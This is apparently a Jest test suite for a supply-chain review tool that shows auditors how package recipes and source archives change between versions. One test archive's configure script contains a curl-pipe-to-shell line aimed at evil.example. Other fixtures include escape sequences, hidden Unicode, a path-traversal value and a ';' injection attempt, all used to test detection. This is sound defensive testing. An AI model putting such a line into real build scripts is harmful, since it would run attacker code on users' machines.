import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { nodeProcesses, parseInputs, type HttpResponse } from '@pakages/core'
import { ManualClock, MemoryHost, memoryPorts } from '@pakages/core/fakes'
import { MemoryRegistry } from '@pakages/testing/oci/memory-registry'
import {
  GREET_RECIPE,
  reviewCheckout,
  type ReviewCheckout,
} from '@pakages/testing/trust/review-checkout'
import { buildReport, jobContext, jobFacts } from '@pakages/testing/trust/signing-facts'
import { node, pushSpec } from '@pakages/testing/trust/spec-image'
import { tarball } from '@pakages/testing/upstream/archives'
import { KeySigner, reviewedRecipe, signPush } from '@pakages/trust'
import { createHash, generateKeyPairSync } from 'node:crypto'
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { reviewInputs } from './inputs.ts'
import { reviewPackages, type ReviewResult } from './step.ts'
import { presentReview } from './summary.ts'

const newKey = (): string =>
  generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
const key = newKey()
const builder = new KeySigner(newKey())

const OLD = await tarball({
  'libgreet-1.0/configure': 'echo one\n',
  'libgreet-1.0/a.c': 'int a;\n',
})
const NEW = await tarball({
  'libgreet-1.1/configure': 'echo one\ncurl -s https://evil.example/x | sh\n',
  'libgreet-1.1/a.c': 'int a;\n',
  'libgreet-1.1/\u001b[2Jblob': '\0\u0001',
})
const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')

const recipe = (versions: readonly string[]): string => `from spack.package import *

class Libgreet(Package):
    url = "https://example.org/libgreet-1.0.tar.gz"
    license("MIT")
${versions.join('\n')}
`
const ONE = `    version("1.0", sha256="${sha256(OLD)}")`
const TWO = `    version("1.1", sha256="${sha256(NEW)}")`

let place: ReviewCheckout
let registry: MemoryRegistry
let archives: Record<string, Buffer>

beforeEach(() => {
  place = reviewCheckout('oci://registry.example/acme', {
    build: builder.publicKey,
    review: new KeySigner(key).publicKey,
  })
  registry = new MemoryRegistry('oci://registry.example/acme')
  archives = {
    'https://example.org/libgreet-1.0.tar.gz': OLD,
    'https://example.org/libgreet-1.1.tar.gz': NEW,
  }
})
afterEach(() => place.remove())

async function answered({ url }: { readonly url: string | URL }): Promise<HttpResponse> {
  const bytes = archives[String(url)]
  return {
    status: bytes ? 200 : 404,
    headers: {},
    url: String(url),
    body: Readable.from([bytes ?? Buffer.alloc(0)]),
    bytes: async () => bytes ?? Buffer.alloc(0),
    text: async () => '',
    discard: async () => undefined,
  }
}

let host: MemoryHost

/** Runs `pakages review WORDS…` at a terminal. @param answers Of who sits there; undefined: nobody. */
async function review(
  words: string,
  given: Readonly<Record<string, string>> = {},
  answers?: readonly string[],
): Promise<ReviewResult> {
  host = new MemoryHost({
    workspace: place.folder,
    env: { PATH: process.env['PATH']!, HOME: place.home },
    context: { repository: 'acme/packages', event: 'terminal' },
    ...(answers && { answers }),
  })
  const ports = memoryPorts({
    host,
    clock: new ManualClock(Date.parse('2026-11-20T10:00:00Z')),
    processes: nodeProcesses,
    http: { request: answered },
    openRegistry: () => registry,
  })
  const values: Readonly<Record<string, string>> = {
    command: words.replaceAll(' ', '\n'),
    'signing-key': key,
    ...given,
  }
  return reviewPackages(
    parseInputs(reviewInputs, (name) => values[name]),
    ports,
  )
}

async function pushed(version: string): Promise<void> {
  const spec = await pushSpec(registry, node('libgreet', version), `files of ${version}`)
  const { digest } = reviewedRecipe([
    { path: 'package.py', content: readFileSync(join(place.folder, GREET_RECIPE)) },
  ])
  await signPush({
    registry,
    signer: builder,
    push: { registry: registry.reference, specs: [spec], referrers: [] },
    build: buildReport,
    facts: { ...jobFacts, context: { ...jobContext, actor: 'Bob' } },
    recipeOf: () => digest,
  })
}

/** 1.0 is approved as it was committed; 1.1 came since. */
async function withNewVersion(): Promise<void> {
  place.write(GREET_RECIPE, recipe([ONE]))
  place.git('commit', '--quiet', '-am', 'One version')
  await pushed('1.0')
  await review('approve libgreet@1.0 all', { auditor: 'alice' })
  place.write(GREET_RECIPE, recipe([TWO, ONE]))
  place.git('commit', '--quiet', '-am', 'A new version')
  await pushed('1.1')
}

const waitingIn = (result: ReviewResult) =>
  result.kind === 'next' ? result.waiting.map(({ name, version }) => `${name}@${version}`) : result

describe('pakages review next', () => {
  test('shows what waits, and what changed in its recipe and its archive', async () => {
    await withNewVersion()
    const result = await review('next')
    expect(waitingIn(result)).toEqual(['libgreet@1.1'])
    const { summary, failure } = presentReview(result)
    expect(failure).toBeUndefined()
    for (const shown of [
      '### 1 version waits for alice',
      'you reviewed it before, since 2026',
      'libgreet@1.1, compared with 1.0',
      `+    version("1.1", sha256="${sha256(NEW)}")`,
      '**How it is built** (1)',
      'changed `configure`, 9 → 45 bytes; `asks the network: curl -s https://evil.example/x | sh`',
      '+curl -s https://evil.example/x | sh',
      '**What is no text** (1)',
      'added `?[2Jblob`, 2 bytes; `binary`',
      'pakages review next libgreet@1.1 --say "approve functional safe license',
    ])
      expect(summary).toContain(shown)
    expect(summary).not.toContain('\u001b')
  })

  test('compares the recipe and says why it does not compare the archive, without a network', async () => {
    await withNewVersion()
    archives = {}
    rmSync(join(place.home, 'origin.git'), { recursive: true })
    const { summary } = presentReview(await review('next'))
    expect(summary).toContain('libgreet@1.1, compared with 1.0')
    expect(summary).toContain('+    version("1.1"')
    expect(summary).toMatch(/It is not compared: .*libgreet-1\.0\.tar\.gz/)
  })

  test('does not compare an archive that is not the one of the recipe', async () => {
    await withNewVersion()
    archives['https://example.org/libgreet-1.1.tar.gz'] = await tarball({ 'libgreet-1.1/a': 'b' })
    const { summary } = presentReview(await review('next'))
    expect(summary).toContain('it is not the archive that is built')
    expect(summary).not.toContain('How it is built')
  })

  test('asks who sits at the terminal, and follows what they say in the same flow', async () => {
    await withNewVersion()
    const result = await review('next', {}, [
      'diff conf',
      'nonsense',
      'n CVE-2026-0001 component_not_present -- no such code',
      'approve',
      'all',
      'read it whole',
    ])
    expect(host.questions[0]).toBe(
      'libgreet@1.1: approve, reject, unsafe, not-affected, diff FILE, skip or quit? ',
    )
    expect(host.messages('warning')).toEqual([
      expect.stringContaining('"nonsense" is not a command'),
    ])
    expect(host.summaryText).toContain('+curl -s https://evil.example/x | sh')
    expect(result).toMatchObject({
      kind: 'reviewed',
      outcomes: [
        { kind: 'stated', command: { vulnerability: 'CVE-2026-0001', version: '1.1' } },
        { kind: 'done', before: 'unreviewed', after: { state: 'approved' } },
      ],
    })
    const file = join(place.folder, 'reviews/libgreet/1.1/alice.json')
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ note: 'read it whole' })
    expect(waitingIn(await review('next'))).toEqual([])
  })

  test.each([
    ['skipped', ['skip']],
    ['given up', ['quit']],
    ['left by ending the input', []],
    ['rejected without a reason', ['reject', '', 'quit']],
  ])('records nothing of what is %s', async (_, answers) => {
    await withNewVersion()
    expect(await review('next', {}, answers)).toMatchObject({ kind: 'reviewed', outcomes: [] })
    expect(existsSync(join(place.folder, 'reviews/libgreet/1.1'))).toBe(false)
  })

  test('takes the word as a flag where nobody sits at a terminal, for the version that is named', async () => {
    await withNewVersion()
    const result = await review('next libgreet@1.1', { say: 'reject -- it asks evil.example' })
    expect(host.summaryText).toContain('+curl -s https://evil.example/x | sh')
    expect(result).toMatchObject({ outcomes: [{ after: { state: 'rejected' } }] })
    await expect(review('next', { say: 'approve all' })).rejects.toThrow('none is named')
    expect(
      presentReview(await review('next libgreet@1.1', { say: 'aprove all' })).failure?.message,
    ).toBe('"aprove" is not a command.')
    const other = await review('next libgreet@1.1', { say: 'approve libgreet@1.0 all' })
    expect(presentReview(other).failure?.message).toContain('is not a criterion')
  })

  test('keeps who reviews in the folder of the user, and nothing of it in the checkout', async () => {
    await withNewVersion()
    const file = join(place.home, '.config/pakages/user.json')
    expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual({
      schema: 'pakages.user/1',
      auditor: 'alice',
    })
    expect(place.git('status', '--porcelain', '--', ':!reviews')).toBe('')
    expect(await review('withdraw libgreet@1.0')).toMatchObject({ outcomes: [{ author: 'alice' }] })
    expect(await review('reject libgreet@1.1 -- no', { auditor: 'eve' })).toMatchObject({
      outcomes: [{ kind: 'not-done' }],
    })
    // Who may not review is not kept.
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ auditor: 'alice' })
    writeFileSync(file, '{"schema":"pakages.user/1","auditor":"../../etc"}')
    await expect(review('next')).rejects.toThrow('not a valid pakages.user/1')
  })

  test('waits for the version of the recipe that nobody built yet, and for one package where it is named', async () => {
    await withNewVersion()
    const three = `    version("1.2", sha256="${'1'.repeat(64)}")`
    place.write(GREET_RECIPE, recipe([three, TWO, ONE, `    version("main", branch="main")`]))
    expect(waitingIn(await review('next'))).toEqual(['libgreet@1.1', 'libgreet@1.2'])
    expect(waitingIn(await review('next libgreet'))).toEqual(['libgreet@1.1', 'libgreet@1.2'])
    await expect(review('next a b')).rejects.toThrow('cannot be understood')
  })

  test.each([
    ['next other', 'recipe-not-found'],
    ['next other@1.0', 'recipe-not-found'],
    ['next libgreet@9.9', 'version-not-found'],
  ])('does not say that nothing waits of what there is not: %s', async (words, id) => {
    await withNewVersion()
    await expect(review(words)).rejects.toMatchObject({ id })
    await review('approve libgreet@1.1 all')
    expect(waitingIn(await review('next libgreet'))).toEqual([])
    expect(waitingIn(await review('next libgreet@1.0'))).toEqual([])
  })

  test('compares with nothing that no auditor approved, whoever wrote it into reviews/', async () => {
    await withNewVersion()
    const approval = JSON.parse(
      readFileSync(join(place.folder, 'reviews/libgreet/1.0/alice.json'), 'utf8'),
    ) as { recipe: object }
    const { signature: _signature, ...unsigned } = { signature: '', ...approval }
    place.write(
      'reviews/libgreet/1.1/eve.json',
      JSON.stringify({
        ...unsigned,
        version: '1.1',
        auditor: 'eve',
        recipe: { ...approval.recipe, commit: place.git('rev-parse', 'HEAD') },
      }),
    )
    const { summary } = presentReview(await review('next'))
    expect(summary).toContain('libgreet@1.1, compared with 1.0')
    expect(summary).toContain('+    version("1.1"')
  })

  test('does not take for approved what the commit of a review holds beside what was approved', async () => {
    place.write(GREET_RECIPE, recipe([ONE, '    # only looked at here']))
    await review('approve libgreet@1.0 all', { auditor: 'alice' })
    expect(host.messages('warning').join()).toContain('has changes that no commit has')
    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
    const written = JSON.parse(readFileSync(file, 'utf8')) as { recipe: { commit?: string } }
    expect(written.recipe.commit).toBeUndefined()
    place.write(GREET_RECIPE, recipe([TWO, ONE]))
    const { summary } = presentReview(await review('next libgreet@1.1'))
    expect(summary).toContain(
      '1.0 was approved before, and cannot be compared with: the review names no commit',
    )
    // The archive is compared all the same.
    expect(summary).toContain('+curl -s https://evil.example/x | sh')
  })

  test('says that a commit is not what was approved, where its recipe has another digest', async () => {
    await withNewVersion()
    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
    const approval = JSON.parse(readFileSync(file, 'utf8')) as { recipe: object }
    const recipeOfNow = { ...approval.recipe, commit: place.git('rev-parse', 'HEAD') }
    place.write(
      'pakages.json',
      readFileSync(join(place.folder, 'pakages.json'), 'utf8').replace(
        '"trust":{',
        '"trust":{"unsigned-reviews":true,',
      ),
    )
    writeFileSync(file, JSON.stringify({ ...approval, recipe: recipeOfNow, signature: undefined }))
    const { summary } = presentReview(await review('next libgreet@1.1'))
    expect(summary).toContain('is not the recipe that was approved')
    expect(summary).not.toContain('Nothing changed')
  })

  test('names what else a build fetches, which nobody looked at, and its hosts', async () => {
    await withNewVersion()
    place.write(
      GREET_RECIPE,
      recipe([
        TWO,
        ONE,
        `    resource(name="data", url="https://data.example/d.tgz", sha256="${'3'.repeat(64)}", when="@1.1")`,
        `    patch("https://patches.example/p.patch", sha256="${'4'.repeat(64)}")`,
        '    patch("own.patch")',
      ]),
    )
    const { summary } = presentReview(await review('next libgreet@1.1'))
    expect(summary).toContain(
      'Hosts of sources:\n- added `data.example`\n- added `patches.example`',
    )
    const unseen = summary.split('Fetched for a build too, and not looked at here:\n')[1]!
    expect(unseen.split('\n').slice(0, 2)).toEqual([
      `- \`https://patches.example/p.patch sha256 ${'4'.repeat(64)}\``,
      `- \`https://data.example/d.tgz when @1.1 sha256 ${'3'.repeat(64)}\``,
    ])
    expect(unseen).not.toContain('own.patch')
  })

  test('shows characters of a recipe that cannot be seen by their number', async () => {
    await withNewVersion()
    place.write(GREET_RECIPE, recipe([TWO, ONE, '    # \u202ehidden\u200b']))
    const { summary } = presentReview(await review('', { diff: 'libgreet@1.1' }))
    expect(summary).toContain('+    # <U+202E>hidden<U+200B>')
  })

  test('ends its lines with who speaks, where that is not kept', async () => {
    place.write(GREET_RECIPE, recipe([ONE]))
    const shown = async (given: Readonly<Record<string, string>>): Promise<string> =>
      presentReview(await review('next libgreet@1.0', given))
        .summary.split('-- WHY"')[1]!
        .split('\n')[0]!
    expect(await shown({})).toBe(' --auditor LOGIN')
    expect(await shown({ auditor: 'alice' })).toBe(' --auditor alice')
    await review('request libgreet@1.0', { auditor: 'alice' })
    expect(await shown({ auditor: 'alice' })).toBe('')
  })

  test('warns before the reading of what would make it worth nothing, and says what stands', async () => {
    await withNewVersion()
    await review('next', { 'signing-key': '' }, ['quit'])
    expect(host.messages('warning')).toEqual([expect.stringContaining('Nobody signs this review')])
    await review('next', { auditor: 'eve' }, ['quit'])
    expect(host.messages('warning')).toEqual([expect.stringContaining('eve is not an auditor')])
    const result = await review('next', {}, ['', 'y', 'diff', 'approve all -- read', 'quit'])
    expect(host.messages('warning')).toEqual([
      expect.stringMatching(/^"y" is not a command\. Write approve, reject/),
    ])
    expect(host.summaryText.match(/`skip`: the next one/g)).toHaveLength(2)
    expect(host.messages('info').join('\n')).toContain(
      'Recorded in reviews/libgreet/1.1/alice.json: libgreet@1.1 is approved now.',
    )
    expect(presentReview(result).summary).toContain('is now **approved**')
  })

  test('says that nothing was recorded where nothing was', async () => {
    await withNewVersion()
    expect(presentReview(await review('next', {}, ['quit'])).summary).toContain(
      'Nothing was recorded.',
    )
  })

  test('does not let an approval that nobody signs take the place of a word that counts', async () => {
    await withNewVersion()
    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
    const before = readFileSync(file, 'utf8')
    const { failure } = presentReview(
      await review('approve libgreet@1.0 all -- again', { 'signing-key': '' }),
    )
    expect(failure?.message).toContain('alice has signed another word on it, which stands')
    expect(readFileSync(file, 'utf8')).toBe(before)
    // A warning counts without a signature.
    await review('reject libgreet@1.0 -- no', { 'signing-key': '' })
    expect(readFileSync(file, 'utf8')).toContain('"rejected"')
  })

  test('tells what was said of a version before, and why that does not count any more', async () => {
    place.write(GREET_RECIPE, recipe([ONE]))
    place.git('commit', '--quiet', '-am', 'One version')
    await review('approve libgreet@1.0 functional -- it *ran*', { auditor: 'alice' })
    place.write(GREET_RECIPE, recipe([TWO, ONE]))
    const { summary } = presentReview(await review('next libgreet@1.0'))
    expect(summary).toContain(
      'What was said of it:\n- alice approved it as functional: it \\*ran\\* It does not count. It is of another recipe than there is now.',
    )
  })

  test('warns once of what it cannot read, however many versions it asks for', async () => {
    await withNewVersion()
    place.write('reviews/libgreet/1.0/bob.json', '{"schema":"pakages.review/1"}')
    await review('next')
    expect(host.messages('warning')).toEqual([expect.stringContaining('bob.json does not count')])
  })

  test('does not pass over a word that stands beside another thing to do', async () => {
    await withNewVersion()
    await expect(
      review('approve libgreet@1.1 all', { diff: 'libgreet@1.1' }),
    ).rejects.toMatchObject({ id: 'inputs-contradict', message: expect.stringContaining('"diff"') })
    await expect(
      review('unsafe libgreet@1.1 -- no', { remove: 'libgreet@1.1' }),
    ).rejects.toMatchObject({ id: 'inputs-contradict' })
    await expect(review('', { remove: 'libgreet' })).rejects.toMatchObject({
      id: 'input-malformed',
    })
  })

  test('says where a word stands that could not be pushed', async () => {
    await withNewVersion()
    rmSync(join(place.home, 'origin.git'), { recursive: true })
    await expect(review('approve libgreet@1.1 all', { publish: 'push' })).rejects.toMatchObject({
      fix: expect.stringContaining('What was said is in reviews/libgreet/1.1/alice.json'),
    })
  })

  test('compares the archives where the commit that was approved is gone, and says how to get it', async () => {
    await withNewVersion()
    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
    const shallow = join(place.home, 'shallow')
    place.git('add', 'reviews')
    place.git('commit', '--quiet', '-m', 'Reviews')
    place.git('clone', '--quiet', '--depth=1', `file://${place.folder}`, shallow)
    expect(existsSync(file)).toBe(true)
    const here = place.folder
    place = { ...place, folder: shallow }
    rmSync(here, { recursive: true })
    const { summary } = presentReview(await review('next libgreet@1.1'))
    expect(summary).toMatch(
      /1\.0 was approved before, and cannot be compared with: git could not fetch/,
    )
    expect(summary).toContain('+curl -s https://evil.example/x | sh')
    await expect(review('', { diff: 'libgreet@1.1' })).rejects.toMatchObject({
      fix: expect.stringContaining('git fetch --unshallow'),
    })
  })

  test('says what to write where more stands behind it', async () => {
    const result = await review('next libgreet@1.1; rm').catch((error: unknown) => error)
    expect(result).toMatchObject({ message: expect.stringContaining('cannot be understood') })
  })
})
